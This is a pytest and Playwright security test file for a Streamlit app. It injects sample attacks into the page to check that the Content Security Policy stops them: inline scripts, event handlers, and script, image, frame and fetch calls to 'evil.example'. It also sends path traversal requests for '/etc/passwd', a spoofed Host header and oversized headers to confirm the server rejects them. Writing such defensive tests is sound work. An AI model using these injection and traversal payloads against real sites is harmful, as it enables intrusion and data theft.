"""The content policy and what else keeps strangers out, in a browser and on real routes."""

from __future__ import annotations

import http.client
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Request

import serve
from common.who import Who
from evidence.rounds.casting import RoundBallot
from room import pages
from room.addresses import Place
from room.door import RoomDoor
from storage import Project
from tests.browser import Server, chromium, served, visiting
from tests.evidence.test_room_door import _free
from tests.rooms import opened

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

_WATCHING = """() => {
  window.cgStopped = [];
  document.addEventListener("securitypolicyviolation",
    event => window.cgStopped.push(event.effectiveDirective));
}"""
_ATTACKS = """async () => {
  const inline = document.createElement("script");
  inline.textContent = "window.cgRan = 'inline'";
  document.body.append(inline);
  const handler = document.createElement("div");
  handler.setAttribute("onclick", "window.cgRan = 'handler'");
  document.body.append(handler);
  handler.click();
  const far = document.createElement("script");
  far.src = "https://evil.example/x.js";
  document.body.append(far);
  new Image().src = "https://evil.example/x.png";
  const framed = document.createElement("iframe");
  framed.src = "https://evil.example/";
  document.body.append(framed);
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  setTimeout("window.cgRan = 'words'", 0);
  await fetch("https://evil.example/?all").catch(() => {});
  await new Promise(done => setTimeout(done, 300));
  return [window.cgRan ?? "", [...new Set(window.cgStopped)].sort(), document.baseURI];
}"""
# A page of nobody's: its origin is "null", as that of a file somebody was sent.
_REACHES = """address => new Promise(done => {
  const socket = new WebSocket(address.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
})"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with served(tmp_path_factory.mktemp("policy") / "policy.db") as found:
        yield found


def test_what_is_put_into_the_page_neither_runs_nor_calls_out(
    browser: Browser, server: Server
) -> None:
    with visiting(browser, server.address) as visit:
        visit.open()
        held_back: list[str] = []

        def note(request: Request) -> None:
            if request.failure == "csp":
                held_back.append(request.url)

        visit.page.on("requestfailed", note)
        visit.page.evaluate(_WATCHING)
        ran, stopped, base = visit.page.evaluate(_ATTACKS)
        assert ran == ""
        assert {"script-src-elem", "script-src-attr", "script-src"} <= set(stopped)
        assert {"img-src", "frame-src", "connect-src", "base-uri"} <= set(stopped)
        assert base.startswith(server.address)
        # The browser tells of some that the policy held back; one that went out stays in the list.
        for each in held_back:
            visit.strayed.remove(each)


def test_no_other_page_frames_the_app_or_connects_to_it(browser: Browser, server: Server) -> None:
    page = browser.new_page()
    try:
        page.set_content(f'<iframe src="{server.address}/"></iframe>')
        page.wait_for_timeout(1_000)
        assert page.frames[1].locator('[data-testid="stApp"]').count() == 0
        assert page.evaluate(_REACHES, server.address) == "refused"
    finally:
        page.close()


def test_cookies_are_kept_to_this_app(browser: Browser, server: Server) -> None:
    with visiting(browser, server.address) as visit:
        visit.open()
        cookies = {each["name"]: each for each in visit.page.context.cookies()}
    # Its value is in no other place than the header beside it, which another page cannot set.
    assert set(cookies) == {"_streamlit_xsrf"}
    assert cookies["_streamlit_xsrf"]["sameSite"] == "Lax"


def _ask(address: str, method: str, path: str, **headers: str) -> tuple[int, dict[str, str]]:
    place = urlsplit(address)
    connection = http.client.HTTPConnection(place.netloc, timeout=10)
    connection.request(
        method, path, headers={key.replace("_", "-"): value for key, value in headers.items()}
    )
    answer = connection.getresponse()
    answer.read()
    told = answer.status, {name.lower(): value for name, value in answer.getheaders()}
    connection.close()
    return told


def test_every_route_of_the_running_server_keeps_to_the_policy(server: Server) -> None:
    for method, path, status in (
        *(("GET", "/", 200), ("GET", "/sessions", 200), ("GET", "/_stcore/health", 200)),
        *(("GET", "/media/none.bin", 404), ("GET", "/component/none/x", 404)),
        *(("GET", "/_stcore/bidi-components/none/x", 404), ("GET", "/_stcore/metrics", 404)),
        *(("POST", "/_stcore/agent/interact", 404), ("GET", "/_stcore/agent/openapi.json", 404)),
        *(("PUT", "/_stcore/upload_file/a/b", 403), ("TRACE", "/", 405), ("PUT", "/", 405)),
        *(("GET", "/../../etc/passwd", 400), ("GET", "/media/..%2f..%2fx", 400)),
    ):
        found, headers = _ask(server.address, method, path)
        assert found == status, (method, path)
        told = {name: headers.get(name) for name, _ in _known()}
        assert told == dict(_known()), (method, path)
        assert "x-powered-by" not in headers
        # Which program, as its pages tell anybody; which version of it, nowhere.
        assert headers["server"] == "uvicorn"
    # Whoever sends headers without end is cut off, while they are still sending or soon after.
    with suppress(OSError):
        assert _ask(server.address, "GET", "/", X="a" * 3_000_000)[0] == 400
    assert _ask(server.address, "GET", "/_stcore/health")[0] == 200
    assert _ask(server.address, "GET", "/", Host="evil.example")[0] == 400


def _known() -> list[tuple[str, str]]:
    return [(name.decode(), value.decode()) for name, value in serve.HEADERS]


def test_the_phones_page_keeps_to_its_own(browser: Browser, project: Project, who: Who) -> None:
    door = RoomDoor.at(Place("127.0.0.1", _free()))
    page = browser.new_page()
    try:
        door.open(RoundBallot(project, opened(project, who)))
        address = f"http://127.0.0.1:{door.place.port}/{door.now_open()}"
        answer = page.goto(address)
        assert answer
        assert answer.headers["content-security-policy"] == pages.POLICY
        page.evaluate(_WATCHING)
        ran, stopped, _ = page.evaluate(_ATTACKS)
        assert ran == ""
        assert {"script-src-elem", "img-src", "frame-src", "connect-src"} <= set(stopped)
        page.set_content(f'<iframe src="{address}"></iframe>')
        page.wait_for_timeout(300)
        assert page.frames[1].locator("form").count() == 0
    finally:
        page.close()
        door.stop()
